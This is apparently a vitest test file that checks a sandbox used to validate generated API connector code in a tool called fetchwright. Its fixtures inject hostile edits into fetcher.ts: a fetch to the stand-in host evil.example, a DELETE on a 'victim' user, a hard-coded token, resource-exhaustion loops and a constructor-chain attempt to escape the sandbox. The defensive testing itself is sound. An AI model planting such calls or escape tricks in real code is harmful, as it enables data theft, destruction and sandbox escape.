import { cp, mkdtemp, readFile, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { captureIo } from '../../agent/cli/io.ts';
import { main } from '../../agent/cli/main.ts';
import { readConnectorDir } from '../../agent/generate/connector-dir.ts';
import { validateConnector } from '../../agent/validate/run-validation.ts';
import type { Scorecard } from '../../agent/validate/scorecard.ts';
import { errorKinds } from '../helpers/findings.ts';
import { REPO_ROOT } from '../helpers/vendor-docs.ts';

/**
 * The sandbox proof catches hand-made mutations of a generated fetcher.ts, names the cause, and the
 * host process survives every one of them. `fetchwright validate` itself refuses to run such code
 * (it proves template code only, exit 12): the mutants are proved through `validateConnector`, the
 * library function `generate` and `pr` use, with the connector's recorded hashes as validate passes them.
 */

let generated: string;

beforeAll(async () => {
  const out = await mkdtemp(path.join(os.tmpdir(), 'fetchwright-mut-'));
  const io = captureIo();
  const code = await main(['generate', path.join(REPO_ROOT, 'examples/jupyterhub'), '--out', out], io);
  expect(code, io.err()).toBe(0);
  generated = path.join(out, 'jupyterhub');
}, 60_000);

/** A copy of the generated connector. */
async function copyOf(): Promise<string> {
  const dir = await mkdtemp(path.join(os.tmpdir(), 'fetchwright-mutant-'));
  await cp(generated, dir, { recursive: true });
  return dir;
}

/** A copy of the generated connector with `fetcher.ts` edited; an edit that changes nothing fails the test. */
async function mutated(edit: (source: string) => string): Promise<string> {
  const dir = await copyOf();
  const file = path.join(dir, 'fetcher.ts');
  const before = await readFile(file, 'utf8');
  const after = edit(before);
  expect(after).not.toBe(before);
  await writeFile(file, after);
  return dir;
}

async function validateCli(dir: string): Promise<{ code: number; card: Scorecard }> {
  const io = captureIo();
  const code = await main(['validate', dir, '--json'], io);
  return { code, card: JSON.parse(io.out()) as Scorecard };
}

/** The sandbox proof of a (mutated) connector folder as validate would run it, without validate's template check; `code` is validate's exit code for that verdict. */
async function prove(dir: string): Promise<{ code: number; card: Scorecard }> {
  const c = await readConnectorDir(dir);
  const card = await validateConnector({ model: c.model, plan: c.plan, fetcherSource: c.fetcher, seed: c.scorecard.hashes.seed, recorded: c.scorecard.hashes });
  return { code: card.verdict === 'pass' ? 0 : 9, card };
}

/** Code added at the top of the generated entry point `run`. */
function atRunStart(code: string): (s: string) => string {
  return (s) => s.replace('async function run(input: RunInput): Promise<RunRecord> {', `async function run(input: RunInput): Promise<RunRecord> {\n  ${code}`);
}

describe('validate: a generated connector as it is', () => {
  it('passes, and changes nothing on disk', async () => {
    const before = await readFile(path.join(generated, 'scorecard.json'), 'utf8');
    const { code, card } = await validateCli(generated);
    expect(code).toBe(0);
    expect(card.verdict).toBe('pass');
    expect(await readFile(path.join(generated, 'scorecard.json'), 'utf8')).toBe(before);
  });
});

describe('validate: what changed since the recorded proof', () => {
  it('edited docs (api-model.json) fail the re-proof, even with the plan\'s quotes left intact', async () => {
    const dir = await copyOf();
    const file = path.join(dir, 'api-model.json');
    const model = JSON.parse(await readFile(file, 'utf8')) as { title: string };
    await writeFile(file, JSON.stringify({ ...model, title: `${model.title} (edited)` }));
    const { code, card } = await validateCli(dir);
    expect(code).toBe(9);
    expect(errorKinds(card)).toEqual(['docs-changed-since-proof']);
  });

  it('an edited fetcher.ts, even one that still works, is refused by validate before it runs (exit 12)', async () => {
    const dir = await mutated((s) => `${s}// a reviewer's note\n`);
    const io = captureIo();
    expect(await main(['validate', dir, '--json'], io)).toBe(12);
    expect(io.out()).toBe('');
    expect(io.err()).toMatch(/fetcher\.ts is not what this fetchwright's approved templates render from plan\.json \(the first difference is on line \d+\): validate proves template code only/);
    // The proof as a library function still says what changed since the recorded one.
    const { code, card } = await prove(dir);
    expect(code).toBe(0);
    expect(card.findings.map((f) => `${f.level}:${f.id}`)).toEqual(['warning:fetcher-changed-since-proof']);
  });
});

describe('the sandbox proof: hand-made mutations are caught and named', () => {
  it('a wrong pagination parameter', async () => {
    // SLOTS is the plan's JSON as it is, one value per line: a reviewer edits it like any JSON.
    const dir = await mutated((s) => s.replaceAll('"offset_param": "offset"', '"offset_param": "ofset"'));
    const { code, card } = await prove(dir);
    expect(code).toBe(9);
    expect(card.findings).toContainEqual(expect.objectContaining({ id: 'undocumented-parameter', stream: 'users', args: expect.objectContaining({ params: ['ofset'] }) }));
    expect(card.streams.find((s) => s.name === 'users')!.complete).toBe(false);
  });

  it('a hard-coded token', async () => {
    const dir = await mutated((s) => s.replace("headers: { accept: 'application/json', ...headers }", "headers: { accept: 'application/json', authorization: 'token 9f8e7d6c5b4a39281706f5e4d3c2b1a0', ...headers }"));
    const { code, card } = await prove(dir);
    expect(code).toBe(9);
    expect(card.secrets_in_code.length).toBeGreaterThan(0);
    expect(card.sandbox.violations.some((v) => v.kind === 'credential-header')).toBe(true);
    expect(JSON.stringify(card)).not.toContain('9f8e7d6c5b4a39281706f5e4d3c2b1a0');
  });

  it('a DELETE', async () => {
    const dir = await mutated(atRunStart("await host().fetch(input.base_url + '/users/victim', { method: 'DELETE' as 'GET', headers: {} }).catch(() => undefined);"));
    const { code, card } = await prove(dir);
    expect(code).toBe(9);
    expect(card.calls.writes).toBeGreaterThan(0);
    expect(errorKinds(card)).toEqual(expect.arrayContaining(['egress-violation', 'write-attempted']));
  });

  it('a fetch to another host', async () => {
    const dir = await mutated(atRunStart("await host().fetch('https://evil.example/collect?d=1', { method: 'GET', headers: {} }).catch(() => undefined);"));
    const { code, card } = await prove(dir);
    expect(code).toBe(9);
    expect(card.sandbox.violations.some((v) => v.kind === 'refused-host')).toBe(true);
    expect(card.findings.find((f) => f.id === 'egress-violation')!.args.message).toMatch(/evil\.example/);
  });

  it('while (true) {}', async () => {
    const dir = await mutated(atRunStart('while (true) {}'));
    const c = await readConnectorDir(dir);
    const card = await validateConnector({ model: c.model, plan: c.plan, fetcherSource: c.fetcher, seed: 1, limits: { cpuMs: 1_000, wallMs: 5_000 } });
    expect(card.verdict).toBe('fail');
    expect(card.sandbox.failure?.kind).toMatch(/cpu-timeout|wall-timeout/);
  });

  it('a never-settling promise', async () => {
    const dir = await mutated(atRunStart('await new Promise(() => {});'));
    const c = await readConnectorDir(dir);
    const card = await validateConnector({ model: c.model, plan: c.plan, fetcherSource: c.fetcher, seed: 1, limits: { wallMs: 2_000 } });
    expect(card.sandbox.failure?.kind).toBe('wall-timeout');
  });

  it('a 1 GB allocation', async () => {
    const dir = await mutated(atRunStart('const big = new Uint8Array(1024 * 1024 * 1024); big[0] = 1;'));
    const { code, card } = await prove(dir);
    expect(code).toBe(9);
    expect(card.sandbox.failure?.kind).toBe('memory-limit');
  });

  it('reaching `process` through a constructor chain', async () => {
    const dir = await mutated(atRunStart("const p = (function () {}).constructor('return process')(); p.exit(0);"));
    const { code, card } = await prove(dir);
    expect(code).toBe(9);
    expect(card.sandbox.failure?.kind).toBe('fetcher-error');
    expect(card.sandbox.failure?.message).toMatch(/process is not defined/);
  });

  it('the host survives all of it: the untouched connector still passes', async () => {
    const { code } = await validateCli(generated);
    expect(code).toBe(0);
  });
});
